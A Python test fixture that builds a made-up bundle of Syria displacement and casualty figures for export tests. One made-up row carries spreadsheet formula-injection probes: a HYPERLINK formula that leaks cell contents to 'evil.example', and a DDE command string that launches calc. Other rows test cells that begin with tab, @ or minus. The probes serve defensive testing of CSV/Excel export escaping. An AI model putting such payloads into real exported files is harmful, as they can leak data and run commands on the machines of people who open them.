"""A made-up bundle for the export tests: two areas from the real gazetteer and three
MADE-UP figures (not real figures: a formula-injection probe, Arabic text, a region)."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from app.bundle.store import Bundle
from app.tables.schemas import FIGURE_COLUMNS

ROOT = Path(__file__).resolve().parents[2]

#: MADE-UP figures. Row 1 probes formula injection (publisher, document) and carries Arabic;
#: row 2 is for a named region with quotes, commas and cells starting with - @ and tab.
MADE_UP_FIGURES = [
    {
        "figure_id": "madeup0001",
        "metric": "idp_arrivals",
        "kind": "flow",
        "metric_as_written": "idp_arrivals",
        "sector": None,
        "value": 1500.0,
        "qualifier": None,
        "low": 1500.0,
        "high": 1500.0,
        "period_start": "2020-02-01",
        "period_end": "2020-02-29",
        "area_pcode": "SY070301",
        "region": None,
        "area_as_written": "الدانا",
        "publisher": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "document": "+cmd|' /C calc'!A0",
        "url": None,
        "published_date": "2020-03-02",
        "note": "MADE-UP test row, not a real figure",
        "source_file": "madeup.csv",
        "source_row": 2,
    },
    {
        "figure_id": "madeup0002",
        "metric": "idps_displaced_since",
        "kind": "cumulative",
        "metric_as_written": "\tdisplaced_since_2019-12-01",
        "sector": None,
        "value": 900000.0,
        "qualifier": "more than",
        "low": 900000.0,
        "high": 990000.0,
        "period_start": "2019-12-01",
        "period_end": "2020-02-16",
        "area_pcode": None,
        "region": "nw_syria",
        "area_as_written": "@NW Syria",
        "publisher": "MADE-UP publisher",
        "document": 'Made-up report, "quoted", 16 Feb',
        "url": "https://example.org/made-up",
        "published_date": None,
        "note": "-5 (a text cell that starts with a minus)",
        "source_file": "madeup.csv",
        "source_row": 3,
    },
    {
        "figure_id": "madeup0003",
        "metric": "civilians_killed",
        "kind": "flow",
        "metric_as_written": "civilians_killed",
        "sector": None,
        "value": 12.5,
        "qualifier": "about",
        "low": 11.0,
        "high": 14.0,
        "period_start": None,
        "period_end": "2020-01-31",
        "area_pcode": "SY0703",
        "region": None,
        "area_as_written": "Harem",
        "publisher": "MADE-UP publisher",
        "document": "Made-up casualty note",
        "url": None,
        "published_date": "2020-02-01",
        "note": None,
        "source_file": "madeup.csv",
        "source_row": 4,
    },
]


def made_up_figures(rows: list[dict] | None = None) -> pd.DataFrame:
    df = pd.DataFrame(rows or MADE_UP_FIGURES)[FIGURE_COLUMNS]
    for c in ("period_start", "period_end", "published_date"):
        df[c] = pd.to_datetime(df[c], format="%Y-%m-%d")
    for c in ("value", "low", "high"):
        df[c] = df[c].astype(float)
    df["source_row"] = df["source_row"].astype(int)
    return df


def made_up_bundle(real: Bundle, rows: list[dict] | None = None) -> Bundle:
    """The real areas, regions and data package with made-up figures."""
    return Bundle(real.data_dir, real.areas, made_up_figures(rows), real.regions, real.datapackage)
